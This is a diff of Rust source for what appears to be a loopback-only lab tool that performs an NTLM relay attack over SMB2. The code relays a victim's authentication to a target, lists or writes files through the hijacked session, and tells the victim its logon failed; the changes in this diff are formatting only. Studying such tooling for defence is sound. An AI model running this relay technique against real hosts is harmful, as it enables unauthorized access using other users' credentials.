@@ -117,8 +117,12 @@ impl RelayOptions {
     /// What a relay tool offers by default: 2.0.2 to 3.0.2. A 3.1.1 target requires a
     /// signed TREE_CONNECT from every authenticated user (MS-SMB2 3.3.5.7), which the relay
     /// cannot produce, so offering 3.1.1 would only get the relayed session dropped.
-    pub const DEFAULT_DIALECTS: [Dialect; 4] =
-        [Dialect::SMB202, Dialect::SMB21, Dialect::SMB30, Dialect::SMB302];
+    pub const DEFAULT_DIALECTS: [Dialect; 4] = [
+        Dialect::SMB202,
+        Dialect::SMB21,
+        Dialect::SMB30,
+        Dialect::SMB302,
+    ];
 }
 
 impl RelayOptions {
@@ -239,8 +243,9 @@ impl Relay {
         if let Some(src) = options.source {
             loopback::check_connect("source", SocketAddr::new(src, 0))?;
         }
-        let listener =
-            TcpListener::bind(listen).await.with_context(|| format!("binding {listen}"))?;
+        let listener = TcpListener::bind(listen)
+            .await
+            .with_context(|| format!("binding {listen}"))?;
         Ok(Relay { listener, options })
     }
 
@@ -312,13 +317,22 @@ async fn run(
             ..Header::default()
         };
         let wildcard = smb1.dialects.iter().any(|d| d == "SMB 2.???");
-        let dialect = if wildcard { Dialect::WILDCARD } else { Dialect::SMB202 };
-        victim.send(&build(&header, &victim_negotiate_response(dialect, &[]))).await?;
+        let dialect = if wildcard {
+            Dialect::WILDCARD
+        } else {
+            Dialect::SMB202
+        };
+        victim
+            .send(&build(&header, &victim_negotiate_response(dialect, &[])))
+            .await?;
         first = victim.recv().await.context("victim NEGOTIATE after SMB1")?;
     }
     let neg_header = Header::parse(&first).context("victim NEGOTIATE header")?;
     if neg_header.command != Command::NEGOTIATE {
-        bail!("victim opened with {} instead of NEGOTIATE", neg_header.command);
+        bail!(
+            "victim opened with {} instead of NEGOTIATE",
+            neg_header.command
+        );
     }
     let neg = NegotiateRequest::read(&first).context("victim NEGOTIATE")?;
     attempt.victim_security_mode = Some(neg.security_mode);
@@ -333,14 +347,27 @@ async fn run(
     let victim_dialect = if neg.dialects.contains(&target_neg.dialect_revision) {
         target_neg.dialect_revision
     } else {
-        neg.dialects.iter().copied().filter(|d| Dialect::ALL.contains(d)).max().ok_or_else(
-            || anyhow!("victim offered no dialect the relay speaks: {:?}", neg.dialects),
-        )?
+        neg.dialects
+            .iter()
+            .copied()
+            .filter(|d| Dialect::ALL.contains(d))
+            .max()
+            .ok_or_else(|| {
+                anyhow!(
+                    "victim offered no dialect the relay speaks: {:?}",
+                    neg.dialects
+                )
+            })?
     };
     attempt.victim_dialect = Some(victim_dialect.dotted());
     let mut h = neg_header.response(NtStatus::SUCCESS);
     h.credits = 32;
-    victim.send(&build(&h, &victim_negotiate_response(victim_dialect, &neg.contexts))).await?;
+    victim
+        .send(&build(
+            &h,
+            &victim_negotiate_response(victim_dialect, &neg.contexts),
+        ))
+        .await?;
 
     // 3. SESSION_SETUP round 1: NTLM NEGOTIATE -> target -> CHALLENGE -> victim.
     let victim_session_id = random_u64() | 1;
@@ -348,7 +375,10 @@ async fn run(
     let first_token = gss::unwrap_initiator(&ss1.security_buffer, gss::NTLM_NEGOTIATE, None)
         .context("victim's first token")?;
     let (status, challenge_token) = target
-        .session_setup(gss::wrap_first_for_target(&first_token.ntlm, &first_token.wrapping))
+        .session_setup(gss::wrap_first_for_target(
+            &first_token.ntlm,
+            &first_token.wrapping,
+        ))
         .await?;
     if status != NtStatus::MORE_PROCESSING_REQUIRED {
         attempt.auth_status = Some(status.to_string());
@@ -374,8 +404,9 @@ async fn run(
     )
     .context("victim's AUTHENTICATE")?;
     attempt.relayed_user = gss::authenticate_user(&auth.ntlm);
-    let (status, final_token) =
-        target.session_setup(gss::wrap_last_for_target(&auth.ntlm, &auth.wrapping)).await?;
+    let (status, final_token) = target
+        .session_setup(gss::wrap_last_for_target(&auth.ntlm, &auth.wrapping))
+        .await?;
     let _ = final_token;
     attempt.auth_status = Some(status.to_string());
     attempt.auth_accepted = status == NtStatus::SUCCESS;
@@ -405,7 +436,11 @@ async fn run(
         }
         VictimReply::LogonFailure => {
             // The victim only ever sees a failed logon.
-            let told = if attempt.auth_accepted { NtStatus::LOGON_FAILURE } else { status };
+            let told = if attempt.auth_accepted {
+                NtStatus::LOGON_FAILURE
+            } else {
+                status
+            };
             victim.send_error(&h2, told, victim_session_id).await?;
             attempt.victim_told = Some(told.to_string());
         }
@@ -429,7 +464,10 @@ async fn attack(target: &mut TargetConn, opts: &RelayOptions, attempt: &mut Rela
             attempt,
             "TREE_CONNECT",
             &unc,
-            &TreeConnectRequest { flags: 0, path: unc.clone() },
+            &TreeConnectRequest {
+                flags: 0,
+                path: unc.clone(),
+            },
             |m| TreeConnectResponse::read(m).map(|_| ()),
         )
         .await;
@@ -442,7 +480,8 @@ async fn attack(target: &mut TargetConn, opts: &RelayOptions, attempt: &mut Rela
         attempt.listing = crate::relay_ops::list_root(target, attempt).await;
     }
     if let Some(path) = opts.action.marker() {
-        let text = format!(
+        let text =
+            format!(
             "Written by smb-lab relay through a relayed NTLM session of {} at {} (unix time).\n",
             attempt.relayed_user.as_deref().unwrap_or("an unknown user"),
             SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0)
@@ -469,7 +508,9 @@ fn victim_negotiate_response(
             _ => None,
         });
         if let Some(alg) = offered {
-            contexts.push(NegotiateContext::Signing { algorithms: vec![alg] });
+            contexts.push(NegotiateContext::Signing {
+                algorithms: vec![alg],
+            });
         }
     }
     NegotiateResponse {
@@ -497,7 +538,10 @@ struct Peer {
 impl Peer {
     fn new(stream: TcpStream) -> Self {
         let (rx, tx) = stream.into_split();
-        Peer { rx: FrameReader::new(rx), tx }
+        Peer {
+            rx: FrameReader::new(rx),
+            tx,
+        }
     }
 
     async fn send(&mut self, message: &[u8]) -> anyhow::Result<()> {
@@ -518,7 +562,10 @@ impl Peer {
             return Ok(frame);
         }
         let ranges = split_chain(&frame).context("bad message framing")?;
-        let first = ranges.into_iter().next().ok_or_else(|| anyhow!("empty frame"))?;
+        let first = ranges
+            .into_iter()
+            .next()
+            .ok_or_else(|| anyhow!("empty frame"))?;
         Ok(frame.get(first).map(<[u8]>::to_vec).unwrap_or_default())
     }
 
@@ -558,7 +605,11 @@ pub(crate) struct TargetConn {
 impl TargetConn {
     async fn connect(opts: &RelayOptions) -> anyhow::Result<Self> {
         let target = loopback::check_connect("target", opts.target)?;
-        let socket = if target.is_ipv4() { TcpSocket::new_v4()? } else { TcpSocket::new_v6()? };
+        let socket = if target.is_ipv4() {
+            TcpSocket::new_v4()?
+        } else {
+            TcpSocket::new_v6()?
+        };
         if let Some(src) = opts.source {
             socket
                 .bind(SocketAddr::new(src, 0))
@@ -591,11 +642,19 @@ impl TargetConn {
         self.next_message_id += 1;
         let mut h = Header::request(command, id, self.session_id, self.tree_id);
         // MS-SMB2 2.2.1.2: CreditCharge is reserved (0) in 2.0.2.
-        h.credit_charge = if self.dialect == Dialect::SMB202 { 0 } else { 1 };
+        h.credit_charge = if self.dialect == Dialect::SMB202 {
+            0
+        } else {
+            1
+        };
         h.credits = 64;
         self.peer.send(&build(&h, body)).await?;
         loop {
-            let m = self.peer.recv().await.with_context(|| format!("{command} response"))?;
+            let m = self
+                .peer
+                .recv()
+                .await
+                .with_context(|| format!("{command} response"))?;
             let rh = Header::parse(&m)?;
             if rh.message_id != id || !rh.is_response() {
                 continue; // an oplock break or a stray message
@@ -623,13 +682,18 @@ impl TargetConn {
                 Vec::new()
             },
         };
-        let (h, m) = self.call(Command::NEGOTIATE, &req).await.context("target NEGOTIATE")?;
+        let (h, m) = self
+            .call(Command::NEGOTIATE, &req)
+            .await
+            .context("target NEGOTIATE")?;
         if h.status != NtStatus::SUCCESS {
             bail!("target refused NEGOTIATE: {}", h.status);
         }
         let resp = NegotiateResponse::read(&m).context("target NEGOTIATE response")?;
         if resp.dialect_revision == Dialect::SMB311
-            && resp.context(NegotiateContextType::PREAUTH_INTEGRITY_CAPABILITIES).is_none()
+            && resp
+                .context(NegotiateContextType::PREAUTH_INTEGRITY_CAPABILITIES)
+                .is_none()
         {
             bail!("target chose 3.1.1 without a preauth integrity context");
         }
@@ -648,8 +712,10 @@ impl TargetConn {
             previous_session_id: 0,
             security_buffer: token,
         };
-        let (h, m) =
-            self.call(Command::SESSION_SETUP, &req).await.context("target SESSION_SETUP")?;
+        let (h, m) = self
+            .call(Command::SESSION_SETUP, &req)
+            .await
+            .context("target SESSION_SETUP")?;
         if self.session_id == 0 {
             self.session_id = h.session_id;
         }
@@ -678,8 +744,20 @@ impl TargetConn {
     {
         let command = B::COMMAND.unwrap_or(Command::ECHO);
         let (status, accepted, signed, header, message) = match self.call(command, body).await {
-            Ok((h, m)) => (h.status.to_string(), h.status.is_success(), h.is_signed(), Some(h), m),
-            Err(e) => (format!("no response ({e:#})"), false, false, None, Vec::new()),
+            Ok((h, m)) => (
+                h.status.to_string(),
+                h.status.is_success(),
+                h.is_signed(),
+                Some(h),
+                m,
+            ),
+            Err(e) => (
+                format!("no response ({e:#})"),
+                false,
+                false,
+                None,
+                Vec::new(),
+            ),
         };
         let accepted = accepted && check(&message).is_ok();
         attempt.steps.push(Step {
@@ -690,7 +768,10 @@ impl TargetConn {
             response_signed: signed,
         });
         if !accepted && attempt.stopped_at.is_none() {
-            attempt.stopped_at = Some(StopPoint { request: request.to_string(), status });
+            attempt.stopped_at = Some(StopPoint {
+                request: request.to_string(),
+                status,
+            });
         }
         header.filter(|_| accepted)
     }
@@ -714,7 +795,9 @@ fn random_u64() -> u64 {
 /// Now as a FILETIME (100 ns ticks since 1601-01-01).
 fn filetime_now() -> u64 {
     const EPOCH_DIFF_SECS: u64 = 11_644_473_600;
-    let d = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default();
+    let d = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .unwrap_or_default();
     (d.as_secs() + EPOCH_DIFF_SECS) * 10_000_000 + u64::from(d.subsec_nanos() / 100)
 }
 
@@ -741,9 +824,12 @@ mod tests {
     #[tokio::test]
     async fn garbage_from_victim_or_target_ends_the_attempt_without_panic() {
         let target = junk_target().await;
-        let relay = Relay::bind("127.0.0.3:0".parse().unwrap(), RelayOptions::new(target, "data"))
-            .await
-            .unwrap();
+        let relay = Relay::bind(
+            "127.0.0.3:0".parse().unwrap(),
+            RelayOptions::new(target, "data"),
+        )
+        .await
+        .unwrap();
         let addr = relay.local_addr().unwrap();
         let victims: [&[u8]; 4] = [
             b"\x00\x00\x00\x04\xFESMB",     // a truncated header
@@ -761,32 +847,47 @@ mod tests {
         }
         // A well-formed victim NEGOTIATE, but the target talks junk.
         let mut neg = Vec::new();
-        let req =
-            NegotiateRequest { dialects: vec![Dialect::SMB21], ..NegotiateRequest::default() };
+        let req = NegotiateRequest {
+            dialects: vec![Dialect::SMB21],
+            ..NegotiateRequest::default()
+        };
         let msg = build(&Header::request(Command::NEGOTIATE, 0, 0, 0), &req);
         neg.extend_from_slice(&(msg.len() as u32).to_be_bytes());
         neg.extend_from_slice(&msg);
         let mut v = TcpStream::connect(addr).await.unwrap();
         v.write_all(&neg).await.unwrap();
         let attempt = relay.accept_one().await;
-        assert!(attempt.error.as_deref().is_some_and(|e| e.contains("NEGOTIATE")), "{attempt:?}");
+        assert!(
+            attempt
+                .error
+                .as_deref()
+                .is_some_and(|e| e.contains("NEGOTIATE")),
+            "{attempt:?}"
+        );
     }
 
     #[tokio::test]
     async fn refuses_non_loopback_target_and_source() {
         let t: SocketAddr = "192.0.2.1:445".parse().unwrap();
-        assert!(Relay::bind("127.0.0.3:0".parse().unwrap(), RelayOptions::new(t, "d"))
-            .await
-            .is_err());
+        assert!(
+            Relay::bind("127.0.0.3:0".parse().unwrap(), RelayOptions::new(t, "d"))
+                .await
+                .is_err()
+        );
         let mut o = RelayOptions::new("127.0.0.4:1".parse().unwrap(), "d");
         o.source = Some("10.0.0.1".parse().unwrap());
-        assert!(Relay::bind("127.0.0.3:0".parse().unwrap(), o).await.is_err());
+        assert!(Relay::bind("127.0.0.3:0".parse().unwrap(), o)
+            .await
+            .is_err());
     }
 
     #[test]
     fn actions_parse() {
         assert_eq!(RelayAction::parse("ls"), Some(RelayAction::Ls));
-        assert_eq!(RelayAction::parse("write:a/b.txt"), Some(RelayAction::Write("a/b.txt".into())));
+        assert_eq!(
+            RelayAction::parse("write:a/b.txt"),
+            Some(RelayAction::Write("a/b.txt".into()))
+        );
         assert_eq!(RelayAction::parse("write:"), None);
         assert_eq!(RelayAction::parse("rm"), None);
         assert!(RelayAction::default().lists());
